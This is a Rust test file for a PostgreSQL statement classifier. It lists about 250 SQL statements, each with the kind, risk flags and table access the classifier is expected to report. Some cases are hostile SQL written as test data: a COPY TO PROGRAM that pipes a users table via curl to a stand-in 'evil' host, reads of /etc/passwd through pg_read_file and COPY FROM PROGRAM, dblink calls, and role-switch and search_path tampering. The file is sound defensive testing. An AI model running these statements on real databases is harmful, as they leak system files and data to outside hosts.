//! The classification corpus: statements with the kind, command tag(s),
//! exact flag set and tables (with access) the classifier must report.
//! Tags of multi-statement messages are joined with "; ". Tables are
//! `schema.name:access+access` in access order read, insert, update,
//! delete, truncate, ddl.

use vigil_sql::classify;

struct Case {
    sql: &'static str,
    kind: &'static str,
    tags: &'static str,
    flags: &'static [&'static str],
    tables: &'static [&'static str],
}

macro_rules! cases {
    ($( ($sql:expr, $kind:expr, $tags:expr, [$($flag:expr),*], [$($table:expr),*]) ),* $(,)?) => {
        &[ $( Case { sql: $sql, kind: $kind, tags: $tags, flags: &[$($flag),*], tables: &[$($table),*] } ),* ]
    };
}

const CASES: &[Case] = cases![
    // --- plain reads ---
    ("SELECT 1", "read", "SELECT", [], []),
    ("SELECT * FROM users WHERE id = 1", "read", "SELECT", [], ["users:read"]),
    ("select id, name from public.users limit 10", "read", "SELECT", [], ["public.users:read"]),
    ("SELECT * FROM \"Users\"", "read", "SELECT", [], ["Users:read"]),
    ("SELECT * FROM MySchema.MyTable", "read", "SELECT", [], ["myschema.mytable:read"]),
    ("SELECT * FROM \"MySchema\".\"MyTable\"", "read", "SELECT", [], ["MySchema.MyTable:read"]),
    (r#"SELECT * FROM U&"d\0061t\+000061""#, "read", "SELECT", [], ["data:read"]),
    ("TABLE orders", "read", "SELECT", [], ["orders:read"]),
    ("VALUES (1), (2)", "read", "SELECT", [], []),
    ("SELECT a FROM t1 UNION SELECT b FROM t2", "read", "SELECT", [], ["t1:read", "t2:read"]),
    ("SELECT a FROM t1 INTERSECT SELECT a FROM t2 EXCEPT SELECT a FROM t3", "read", "SELECT", [], ["t1:read", "t2:read", "t3:read"]),
    ("SELECT * FROM t WHERE id IN (SELECT id FROM u)", "read", "SELECT", [], ["t:read", "u:read"]),
    ("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)", "read", "SELECT", [], ["t:read", "u:read"]),
    ("SELECT (SELECT max(x) FROM u) FROM t", "read", "SELECT", [], ["t:read", "u:read"]),
    ("SELECT * FROM a JOIN b ON a.id = b.a_id LEFT JOIN c USING (id)", "read", "SELECT", [], ["a:read", "b:read", "c:read"]),
    ("SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t_id = t.id) s", "read", "SELECT", [], ["t:read", "u:read"]),
    ("SELECT id, row_number() OVER (PARTITION BY g ORDER BY ts) FROM events", "read", "SELECT", [], ["events:read"]),
    ("SELECT * FROM active_users_view v WHERE v.id > 10", "read", "SELECT", [], ["active_users_view:read"]),
    ("WITH x AS (SELECT * FROM t) SELECT * FROM x", "read", "SELECT", [], ["t:read"]),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", "read", "SELECT", [], []),
    ("SELECT * FROM t FOR UPDATE", "read", "SELECT", [], ["t:read"]),
    ("SELECT status, count(*) FROM orders GROUP BY status HAVING count(*) > 1", "read", "SELECT", [], ["orders:read"]),
    ("SELECT now()", "read", "SELECT", [], []),
    ("SHOW search_path", "read", "SHOW", [], []),
    ("SHOW ALL", "read", "SHOW", [], []),
    ("SELECT * FROM t LIMIT ALL", "read", "SELECT", [], ["t:read"]),
    ("SELECT * FROM t ORDER BY id OFFSET 5 FETCH FIRST 3 ROWS ONLY", "read", "SELECT", [], ["t:read"]),
    ("SELECT myfunc()", "read", "SELECT", [], []),
    ("SELECT * FROM generate_series(1, 10) g", "read", "SELECT", [], []),
    ("SELECT * FROM t TABLESAMPLE SYSTEM (10)", "read", "SELECT", [], ["t:read"]),
    ("SELECT * FROM t WHERE name LIKE 'a%' ORDER BY id DESC", "read", "SELECT", [], ["t:read"]),
    ("SELECT * FROM t WHERE id = ANY($1)", "read", "SELECT", [], ["t:read"]),
    ("SELECT json_agg(t) FROM t", "read", "SELECT", [], ["t:read"]),
    ("SELECT * FROM (SELECT pg_sleep(1)) s", "read", "SELECT", [], []),
    ("SELECT DISTINCT ON (a) a, b FROM s1.t1 NATURAL JOIN s2.t2", "read", "SELECT", [], ["s1.t1:read", "s2.t2:read"]),
    ("SELECT x FROM t WHERE y BETWEEN 1 AND 5 AND z IS NOT NULL", "read", "SELECT", [], ["t:read"]),
    ("SELECT sum(amount) FILTER (WHERE amount > 0) FROM ledger", "read", "SELECT", [], ["ledger:read"]),
    ("SELECT CAST(x AS int), x::text FROM t", "read", "SELECT", [], ["t:read"]),
    // --- comments and quoting ---
    ("-- leading\nSELECT 1", "read", "SELECT", [], []),
    ("/* outer /* nested */ still comment */ SELECT * FROM t", "read", "SELECT", [], ["t:read"]),
    ("/* /* */ DROP TABLE t */ SELECT 1", "read", "SELECT", [], []),
    ("SELECT $tag$ it's ; DROP TABLE x $tag$", "read", "SELECT", [], []),
    ("SELECT $$a;b$$, 'x;y'", "read", "SELECT", [], []),
    (r"SELECT E'\'; DROP TABLE t; --'", "read", "SELECT", [], []),
    ("SELECT 'it''s; DROP TABLE t'", "read", "SELECT", [], []),
    ("SELECT \"weird;name\" FROM \"t;x\"", "read", "SELECT", [], ["t;x:read"]),
    ("-- x\nDROP TABLE t", "ddl", "DROP TABLE", ["drop"], ["t:ddl"]),
    ("/* hi */ DELETE FROM t -- trailing", "write", "DELETE", ["unbounded_write"], ["t:delete"]),
    // --- EXPLAIN ---
    ("EXPLAIN SELECT * FROM t", "read", "EXPLAIN", [], ["t:read"]),
    ("EXPLAIN DELETE FROM t", "read", "EXPLAIN", [], ["t:read"]),
    ("EXPLAIN ANALYZE DELETE FROM t", "write", "EXPLAIN", ["unbounded_write"], ["t:delete"]),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2", "write", "EXPLAIN", [], ["t:update"]),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", "read", "EXPLAIN", [], ["t:read"]),
    ("EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", "read", "EXPLAIN", ["server_admin"], []),
    // --- risky functions ---
    ("SELECT CASE WHEN a > 1 THEN pg_read_file('/etc/passwd') END FROM t", "read", "SELECT", ["exfiltration"], ["t:read"]),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "read", "SELECT", ["exfiltration"], []),
    ("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", "read", "SELECT", ["exfiltration"], []),
    ("SELECT pg_read_binary_file('global/pg_control')", "read", "SELECT", ["exfiltration"], []),
    ("SELECT * FROM pg_ls_dir('.')", "read", "SELECT", ["exfiltration"], []),
    ("SELECT pg_stat_file('postgresql.conf')", "read", "SELECT", ["exfiltration"], []),
    ("SELECT lo_import('/etc/passwd')", "read", "SELECT", ["exfiltration"], []),
    ("SELECT lo_export(1234, '/tmp/x')", "read", "SELECT", ["exfiltration"], []),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE t')", "read", "SELECT", ["exfiltration"], []),
    ("SELECT * FROM dblink('host=evil', 'select 1') AS r(a int)", "read", "SELECT", ["exfiltration"], []),
    ("SELECT id FROM t WHERE secret = (SELECT public.dblink_connect('c', 'host=x'))", "read", "SELECT", ["exfiltration"], ["t:read"]),
    ("SELECT pg_terminate_backend(123)", "read", "SELECT", ["server_admin"], []),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "read", "SELECT", ["server_admin"], ["pg_stat_activity:read"]),
    ("SELECT pg_reload_conf()", "read", "SELECT", ["server_admin"], []),
    ("SELECT pg_rotate_logfile()", "read", "SELECT", ["server_admin"], []),
    ("SELECT set_config('search_path', 'evil', false)", "read", "SELECT", ["session_tamper"], []),
    ("SELECT pg_catalog.set_config('client_encoding', 'SJIS', true)", "read", "SELECT", ["session_tamper"], []),
    ("SELECT set_config('role','x',false)", "read", "SELECT", ["role_switch"], []),
    ("SELECT set_config('session_authorization','postgres',false)", "read", "SELECT", ["role_switch"], []),
    ("SELECT set_config(current_setting('x'), 'y', false)", "read", "SELECT", ["session_tamper"], []),
    ("SELECT set_config('application_name', 'x', false)", "read", "SELECT", [], []),
    // --- writes ---
    ("INSERT INTO t (a, b) VALUES (1, 2)", "write", "INSERT", [], ["t:insert"]),
    ("INSERT INTO t SELECT * FROM u", "write", "INSERT", [], ["t:insert", "u:read"]),
    ("INSERT INTO t (id, v) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v", "write", "INSERT", [], ["t:insert+update"]),
    ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "write", "INSERT", [], ["t:insert"]),
    ("INSERT INTO t VALUES (1) RETURNING id, (SELECT secret FROM s)", "write", "INSERT", [], ["s:read", "t:insert"]),
    ("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)", "write", "INSERT", [], ["pgbench_history:insert"]),
    ("UPDATE t SET a = 1 WHERE id = 2", "write", "UPDATE", [], ["t:update"]),
    ("UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2", "write", "UPDATE", [], ["pgbench_accounts:update"]),
    ("UPDATE t SET a = 1", "write", "UPDATE", ["unbounded_write"], ["t:update"]),
    ("UPDATE t SET a = 1 WHERE 1=1", "write", "UPDATE", ["unbounded_write"], ["t:update"]),
    ("UPDATE t SET a = 1 WHERE 'a'='a'", "write", "UPDATE", ["unbounded_write"], ["t:update"]),
    ("UPDATE t SET a = 1 WHERE true", "write", "UPDATE", ["unbounded_write"], ["t:update"]),
    ("UPDATE public.orders SET total = 0 WHERE 1 = 1 AND 2 = 2", "write", "UPDATE", ["unbounded_write"], ["public.orders:update"]),
    ("UPDATE t SET a = u.a FROM u WHERE t.id = u.id", "write", "UPDATE", [], ["t:update", "u:read"]),
    ("UPDATE t SET a = 1 WHERE id = id", "write", "UPDATE", ["unbounded_write"], ["t:update"]),
    ("DELETE FROM t WHERE NOT false", "write", "DELETE", ["unbounded_write"], ["t:delete"]),
    ("DELETE FROM t WHERE true OR id = 5", "write", "DELETE", ["unbounded_write"], ["t:delete"]),
    ("DELETE FROM t WHERE id = 5 OR true", "write", "DELETE", ["unbounded_write"], ["t:delete"]),
    ("DELETE FROM t WHERE 1", "write", "DELETE", ["unbounded_write"], ["t:delete"]),
    ("DELETE FROM t WHERE 'yes'::boolean", "write", "DELETE", ["unbounded_write"], ["t:delete"]),
    ("DELETE FROM t WHERE id = 5", "write", "DELETE", [], ["t:delete"]),
    ("DELETE FROM orders WHERE false", "write", "DELETE", [], ["orders:delete"]),
    ("DELETE FROM orders WHERE id = $1", "write", "DELETE", [], ["orders:delete"]),
    ("DELETE FROM t WHERE id IN (SELECT id FROM u)", "write", "DELETE", [], ["t:delete", "u:read"]),
    ("DELETE FROM t USING u WHERE t.id = u.id", "write", "DELETE", [], ["t:delete", "u:read"]),
    ("DELETE FROM t WHERE CURRENT OF c", "write", "DELETE", [], ["t:delete"]),
    ("DELETE FROM public.orders", "write", "DELETE", ["unbounded_write"], ["public.orders:delete"]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)", "write", "MERGE", [], ["s:read", "t:insert+update"]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "write", "MERGE", [], ["s:read", "t:delete"]),
    ("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", "write", "SELECT", ["data_modifying_cte"], ["t:delete"]),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "write", "SELECT", ["data_modifying_cte", "unbounded_write"], ["t:delete"]),
    ("WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING id) INSERT INTO log SELECT id FROM u", "write", "INSERT", ["data_modifying_cte"], ["log:insert", "t:update"]),
    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM i", "write", "SELECT", ["data_modifying_cte"], ["t:insert"]),
    ("WITH a AS (SELECT 1), b AS (SELECT * FROM (WITH c AS (DELETE FROM t RETURNING 1) SELECT * FROM c) x) SELECT * FROM b", "write", "SELECT", ["data_modifying_cte", "unbounded_write"], ["t:delete"]),
    // --- COPY ---
    ("COPY t FROM STDIN", "write", "COPY", [], ["t:insert"]),
    ("COPY t (a, b) TO STDOUT WITH (FORMAT csv)", "read", "COPY", [], ["t:read"]),
    ("COPY (SELECT * FROM t) TO STDOUT WITH CSV", "read", "COPY", [], ["t:read"]),
    ("COPY t TO '/tmp/x'", "read", "COPY", ["exfiltration"], ["t:read"]),
    ("COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://evil'", "read", "COPY", ["exfiltration"], ["users:read"]),
    ("COPY t FROM PROGRAM 'cat /etc/passwd'", "write", "COPY", ["exfiltration"], ["t:insert"]),
    ("COPY t FROM '/etc/passwd'", "write", "COPY", ["exfiltration"], ["t:insert"]),
    // --- DDL ---
    ("SELECT * INTO newt FROM t", "ddl", "SELECT INTO", [], ["newt:insert+ddl", "t:read"]),
    ("CREATE TABLE t2 AS SELECT * FROM t", "ddl", "CREATE TABLE AS", [], ["t:read", "t2:insert+ddl"]),
    ("CREATE TABLE t (id int primary key, name text)", "ddl", "CREATE TABLE", [], ["t:ddl"]),
    ("CREATE TABLE IF NOT EXISTS s.t (id int REFERENCES u(id))", "ddl", "CREATE TABLE", [], ["s.t:ddl", "u:read"]),
    ("ALTER TABLE t ADD COLUMN c int", "ddl", "ALTER TABLE", [], ["t:ddl"]),
    ("ALTER TABLE t DROP COLUMN c", "ddl", "ALTER TABLE", ["drop"], ["t:ddl"]),
    ("ALTER TABLE t OWNER TO bob", "ddl", "ALTER TABLE", ["privilege_change"], ["t:ddl"]),
    ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", "ddl", "ALTER TABLE", ["privilege_change"], ["t:ddl"]),
    ("ALTER TABLE t RENAME TO u", "ddl", "ALTER TABLE", [], ["t:ddl"]),
    ("CREATE INDEX i ON t (a)", "ddl", "CREATE INDEX", [], ["t:ddl"]),
    ("CREATE VIEW v AS SELECT * FROM t", "ddl", "CREATE VIEW", [], ["t:read", "v:ddl"]),
    ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", "ddl", "CREATE MATERIALIZED VIEW", [], ["mv:insert+ddl", "t:read"]),
    ("DROP TABLE t", "ddl", "DROP TABLE", ["drop"], ["t:ddl"]),
    ("DROP TABLE IF EXISTS a, s.b CASCADE", "ddl", "DROP TABLE", ["drop"], ["a:ddl", "s.b:ddl"]),
    ("DROP SCHEMA s CASCADE", "ddl", "DROP SCHEMA", ["drop"], []),
    ("DROP DATABASE prod", "ddl", "DROP DATABASE", ["drop"], []),
    ("DROP VIEW v", "ddl", "DROP VIEW", ["drop"], ["v:ddl"]),
    ("DROP MATERIALIZED VIEW mv", "ddl", "DROP MATERIALIZED VIEW", ["drop"], ["mv:ddl"]),
    ("DROP INDEX i", "ddl", "DROP INDEX", ["drop"], ["i:ddl"]),
    ("DROP FUNCTION f(int)", "ddl", "DROP FUNCTION", ["drop"], []),
    ("DROP EXTENSION pgcrypto", "ddl", "DROP EXTENSION", ["drop"], []),
    ("DROP POLICY p ON t", "ddl", "DROP POLICY", ["drop", "privilege_change"], []),
    ("TRUNCATE t", "ddl", "TRUNCATE TABLE", ["truncate"], ["t:truncate"]),
    ("TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", "ddl", "TRUNCATE TABLE", ["truncate"], ["a:truncate", "b:truncate"]),
    ("CREATE SCHEMA s", "ddl", "CREATE SCHEMA", [], []),
    ("CREATE SEQUENCE seq", "ddl", "CREATE SEQUENCE", [], ["seq:ddl"]),
    ("COMMENT ON TABLE t IS 'x'", "ddl", "COMMENT", [], []),
    ("CREATE TYPE mood AS ENUM ('a', 'b')", "ddl", "CREATE TYPE", [], []),
    ("CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "ddl", "CREATE TRIGGER", [], ["t:ddl"]),
    ("CREATE POLICY p ON t USING (owner = current_user)", "ddl", "CREATE POLICY", ["privilege_change"], ["t:read"]),
    ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "ddl", "CREATE FUNCTION", ["opaque_code"], []),
    ("CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql", "ddl", "CREATE FUNCTION", ["opaque_code", "unbounded_write"], ["t:delete"]),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$", "ddl", "CREATE FUNCTION", ["opaque_code"], []),
    ("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE id = 1; END", "ddl", "CREATE PROCEDURE", ["opaque_code"], ["t:delete"]),
    ("CREATE FUNCTION myfunc() RETURNS int AS 'select 1' LANGUAGE sql; SELECT myfunc()", "ddl", "CREATE FUNCTION; SELECT", ["multi_statement", "opaque_code"], []),
    ("CREATE EXTENSION pgcrypto", "ddl", "CREATE EXTENSION", ["server_admin"], []),
    ("CREATE EXTENSION IF NOT EXISTS dblink", "ddl", "CREATE EXTENSION", ["exfiltration", "server_admin"], []),
    ("CREATE EXTENSION postgres_fdw", "ddl", "CREATE EXTENSION", ["exfiltration", "server_admin"], []),
    ("CREATE EXTENSION file_fdw", "ddl", "CREATE EXTENSION", ["exfiltration", "server_admin"], []),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", "ddl", "CREATE SERVER", ["exfiltration"], []),
    ("CREATE FOREIGN DATA WRAPPER w", "ddl", "CREATE FOREIGN DATA WRAPPER", ["exfiltration"], []),
    ("CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'x')", "ddl", "CREATE USER MAPPING", ["exfiltration"], []),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", "ddl", "IMPORT FOREIGN SCHEMA", ["exfiltration"], []),
    ("CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p", "ddl", "CREATE SUBSCRIPTION", ["exfiltration"], []),
    ("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()", "ddl", "CREATE EVENT TRIGGER", ["server_admin"], []),
    // --- privileges ---
    ("GRANT SELECT ON t TO bob", "privilege", "GRANT", ["privilege_change"], ["t:ddl"]),
    ("REVOKE ALL ON t FROM public", "privilege", "REVOKE", ["privilege_change"], ["t:ddl"]),
    ("GRANT admin TO bob", "privilege", "GRANT", ["privilege_change"], []),
    ("REVOKE admin FROM bob", "privilege", "REVOKE", ["privilege_change"], []),
    ("CREATE ROLE r LOGIN PASSWORD 'x'", "privilege", "CREATE ROLE", ["privilege_change"], []),
    ("CREATE USER u", "privilege", "CREATE USER", ["privilege_change"], []),
    ("CREATE GROUP g", "privilege", "CREATE GROUP", ["privilege_change"], []),
    ("ALTER ROLE bob SUPERUSER", "privilege", "ALTER ROLE", ["privilege_change"], []),
    ("ALTER USER bob SET search_path = evil", "privilege", "ALTER ROLE", ["privilege_change"], []),
    ("DROP ROLE bob", "privilege", "DROP ROLE", ["privilege_change"], []),
    ("DROP USER IF EXISTS bob", "privilege", "DROP ROLE", ["privilege_change"], []),
    ("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob", "privilege", "ALTER DEFAULT PRIVILEGES", ["privilege_change"], []),
    ("REASSIGN OWNED BY a TO b", "privilege", "REASSIGN OWNED", ["privilege_change"], []),
    ("DROP OWNED BY a", "privilege", "DROP OWNED", ["drop", "privilege_change"], []),
    // --- session ---
    ("SET ROLE admin", "session", "SET", ["role_switch"], []),
    ("SET SESSION AUTHORIZATION 'postgres'", "session", "SET", ["role_switch"], []),
    ("SET LOCAL ROLE admin", "session", "SET", ["role_switch"], []),
    ("RESET ROLE", "session", "RESET", [], []),
    ("SET search_path TO evil, public", "session", "SET", ["session_tamper"], []),
    ("SET LOCAL search_path = x", "session", "SET", ["session_tamper"], []),
    ("RESET search_path", "session", "RESET", ["session_tamper"], []),
    ("SET client_encoding = 'SJIS'", "session", "SET", ["session_tamper"], []),
    ("SET NAMES 'GBK'", "session", "SET", ["session_tamper"], []),
    ("SET standard_conforming_strings = off", "session", "SET", ["session_tamper"], []),
    ("SET session_replication_role = replica", "session", "SET", ["session_tamper"], []),
    ("SET SCHEMA 'evil'", "session", "SET", ["session_tamper"], []),
    ("SET statement_timeout = '5s'", "session", "SET", [], []),
    ("SET application_name = 'x'", "session", "SET", [], []),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "session", "SET", [], []),
    ("RESET ALL", "session", "RESET", [], []),
    ("DISCARD ALL", "session", "DISCARD", [], []),
    ("DEALLOCATE p", "session", "DEALLOCATE", [], []),
    // --- transactions and multi-statement messages ---
    ("BEGIN", "transaction", "BEGIN", [], []),
    ("START TRANSACTION READ ONLY", "transaction", "START TRANSACTION", [], []),
    ("COMMIT", "transaction", "COMMIT", [], []),
    ("ROLLBACK", "transaction", "ROLLBACK", [], []),
    ("SAVEPOINT a", "transaction", "SAVEPOINT", [], []),
    ("RELEASE SAVEPOINT a", "transaction", "RELEASE", [], []),
    ("ROLLBACK TO SAVEPOINT a", "transaction", "ROLLBACK", [], []),
    ("BEGIN; DROP TABLE t; COMMIT", "ddl", "BEGIN; DROP TABLE; COMMIT", ["drop", "multi_statement"], ["t:ddl"]),
    ("COMMIT; DROP TABLE t", "ddl", "COMMIT; DROP TABLE", ["drop", "multi_statement"], ["t:ddl"]),
    ("SELECT 1; DROP TABLE t", "ddl", "SELECT; DROP TABLE", ["drop", "multi_statement"], ["t:ddl"]),
    ("SELECT * FROM t; DELETE FROM t", "write", "SELECT; DELETE", ["multi_statement", "unbounded_write"], ["t:read+delete"]),
    ("SELECT 1; SELECT 2", "read", "SELECT; SELECT", ["multi_statement"], []),
    ("select 1;", "read", "SELECT", [], []),
    (";;SELECT 1;;", "read", "SELECT", [], []),
    ("SET ROLE admin; SELECT * FROM secrets; RESET ROLE", "session", "SET; SELECT; RESET", ["multi_statement", "role_switch"], ["secrets:read"]),
    // --- utility ---
    ("VACUUM t", "utility", "VACUUM", [], ["t:read"]),
    ("VACUUM FULL t", "utility", "VACUUM", ["server_admin"], ["t:read"]),
    ("VACUUM (FULL, ANALYZE) t", "utility", "VACUUM", ["server_admin"], ["t:read"]),
    ("VACUUM (FULL false) t", "utility", "VACUUM", [], ["t:read"]),
    ("ANALYZE t", "utility", "ANALYZE", [], ["t:read"]),
    ("CLUSTER t USING i", "utility", "CLUSTER", ["server_admin"], ["t:read"]),
    ("REINDEX TABLE t", "utility", "REINDEX", [], ["t:read"]),
    ("REINDEX DATABASE prod", "utility", "REINDEX", ["server_admin"], []),
    ("REINDEX SCHEMA s", "utility", "REINDEX", ["server_admin"], []),
    ("REINDEX SYSTEM", "utility", "REINDEX", ["server_admin"], []),
    ("CHECKPOINT", "utility", "CHECKPOINT", ["server_admin"], []),
    ("LOAD 'auto_explain'", "utility", "LOAD", ["server_admin"], []),
    ("ALTER SYSTEM SET wal_level = minimal", "utility", "ALTER SYSTEM", ["server_admin"], []),
    ("LISTEN ch", "utility", "LISTEN", [], []),
    ("NOTIFY ch, 'x'", "utility", "NOTIFY", [], []),
    ("UNLISTEN *", "utility", "UNLISTEN", [], []),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "utility", "LOCK TABLE", [], ["t:read"]),
    ("DECLARE c CURSOR FOR SELECT * FROM t", "read", "DECLARE CURSOR", [], ["t:read"]),
    ("FETCH 10 FROM c", "read", "FETCH", [], []),
    ("CLOSE c", "utility", "CLOSE CURSOR", [], []),
    // --- opaque code ---
    ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "opaque", "DO", ["opaque_code"], []),
    ("DO LANGUAGE plpgsql $body$ BEGIN NULL; END $body$", "opaque", "DO", ["opaque_code"], []),
    ("CALL my_proc(1)", "opaque", "CALL", ["opaque_code"], []),
    ("PREPARE p AS DELETE FROM t", "write", "PREPARE", ["opaque_code", "unbounded_write"], ["t:delete"]),
    ("PREPARE q(int) AS SELECT * FROM t WHERE id = $1", "read", "PREPARE", ["opaque_code"], ["t:read"]),
    ("EXECUTE p", "opaque", "EXECUTE", ["opaque_code"], []),
    ("EXECUTE q(1)", "opaque", "EXECUTE", ["opaque_code"], []),
    // --- unparseable ---
    ("SELEC * FRM t", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("SELECT 'unterminated", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("DROP TABLE", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("SELECT 1; DELETE FROM", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("SELECT 1\0; DROP TABLE t", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("hunter2", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("SELECT * FROM t WHERE", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("/* unterminated comment SELECT 1", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("SELECT $$unterminated", "opaque", "UNKNOWN", ["opaque_code"], []),
    ("SELECT \"unterminated FROM t", "opaque", "UNKNOWN", ["opaque_code"], []),
    // --- empty ---
    ("", "read", "", [], []),
    ("   \n\t  ", "read", "", [], []),
    ("-- just a comment", "read", "", [], []),
    ("/* c */ ;", "read", "", [], []),
];

fn access_name(a: &vigil_core::TableAccess) -> String {
    format!("{a:?}").to_lowercase()
}

fn check(case: &Case) -> Result<(), String> {
    let m = classify(case.sql);
    let tags: Vec<&str> = m
        .statements
        .iter()
        .map(|s| s.command_tag.as_str())
        .collect();
    let mut flags: Vec<&str> = m.flags.iter().map(|f| f.id.as_str()).collect();
    flags.sort_unstable();
    flags.dedup();
    let mut tables: Vec<String> = m
        .tables
        .iter()
        .map(|t| {
            let access: Vec<String> = t.access.iter().map(access_name).collect();
            format!("{}:{}", t.qualified_name(), access.join("+"))
        })
        .collect();
    tables.sort();
    let mut want_flags = case.flags.to_vec();
    want_flags.sort_unstable();
    let mut want_tables: Vec<String> = case.tables.iter().map(|s| s.to_string()).collect();
    want_tables.sort();
    let got = (m.kind.as_str(), tags.join("; "), flags, tables);
    let want = (case.kind, case.tags.to_string(), want_flags, want_tables);
    if got == want {
        Ok(())
    } else {
        Err(format!(
            "{:?}\n   got:  {got:?}\n   want: {want:?}",
            case.sql
        ))
    }
}

#[test]
fn corpus_has_at_least_150_statements() {
    assert!(CASES.len() >= 150, "only {} cases", CASES.len());
}

#[test]
fn corpus_classifies_as_expected() {
    let failures: Vec<String> = CASES.iter().filter_map(|c| check(c).err()).collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}
